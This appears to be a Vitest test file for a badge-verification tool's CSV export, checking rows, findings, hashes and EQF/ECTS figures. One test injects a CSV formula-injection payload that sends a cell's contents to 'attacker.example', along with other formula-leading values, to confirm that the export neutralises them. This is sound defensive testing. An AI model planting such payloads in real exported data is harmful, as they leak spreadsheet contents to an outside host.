import { expect, test } from 'vitest'
import { csvText } from '../../../../src/ui/export/csv'
import { profileTable } from '../../../../src/ui/export/profile-table'
import { sentencesIn } from '../../../../src/ui/wording'
import { reason } from '../../../../src/verifier/report'
import { profileReportOf } from '../../../screens/profile-reports'
import { english } from '../english'

const s = sentencesIn(english, 'en-GB')

function rowsOf(profile = profileReportOf()): Record<string, string>[] {
  const [columns = [], ...rows] = profileTable(profile, s)
  return rows.map((row) => Object.fromEntries(columns.map((name, index) => [name, row[index]!])))
}

test('has a row for every badge, with its finding, its issuer and its hashes', () => {
  const rows = rowsOf()
  expect(rows.map(({ Finding }) => Finding)).toEqual([
    ...['Verified', 'Verified', 'Verified', 'Issuer unknown', 'Expired', 'Altered'],
    'Could not check',
  ])
  const [first] = rows
  expect(first).toMatchObject({
    Badge: 'Data Analysis Foundations',
    Issued: '2026-03-14T00:00:00Z',
  })
  expect(first?.['In a sentence']).toMatch(/^Verified\. Issued by .*not confirmed/)
  expect(first?.['SHA-256 of the credential']).toMatch(/^[0-9a-f]{64}$/)
})

test('has figures only where somebody may add them up', () => {
  const levels = { claims: [], levels: [8], contradictory: false, outOfRange: false }
  const profile = profileReportOf()
  const entries = profile.entries.map((entry) => ({
    ...entry,
    figures: { level: 8, ects: { from: 60, to: 60 } },
    report: { ...entry.report, levels },
  }))
  const rows = rowsOf({ ...profile, entries })
  const altered = rows.find(({ Finding }) => Finding === 'Altered')
  expect(altered).toMatchObject({ 'EQF level': '', ECTS: '', 'Skills in ESCO': '' })
  expect(rows[0]).toMatchObject({ 'EQF level': '8', ECTS: '60' })
  expect(rows[0]?.['Skills in ESCO']).toContain('perform data analysis')
})

test('no name, address or date out of a badge becomes a formula or a column', () => {
  const attack = '=HYPERLINK("https://attacker.example?"&A1,"x")'
  const profile = profileReportOf()
  const entries = profile.entries.slice(0, 1).map((entry) => {
    const { credential } = entry.report
    const achievements = credential!.achievements.map((each) => ({ ...each, name: { en: attack } }))
    return {
      ...entry,
      report: {
        ...entry.report,
        reasons: [reason('issuer-listed', { name: attack, list: attack })],
        issuer: { ...entry.report.issuer, id: '@SUM(1)', claimedName: attack },
        credential: { ...credential!, achievements, issuedOn: '+1', validUntil: '\t-1\r\n' },
      },
    }
  })
  const lines = csvText(profileTable({ ...profile, entries }, s)).split('\r\n')
  expect(lines).toHaveLength(3)
  const cells = lines[1]!.slice(1, -1).split('","')
  expect(cells).toHaveLength(15)
  for (const cell of cells) expect(cell).not.toMatch(/^[=+\-@\t]/)
})
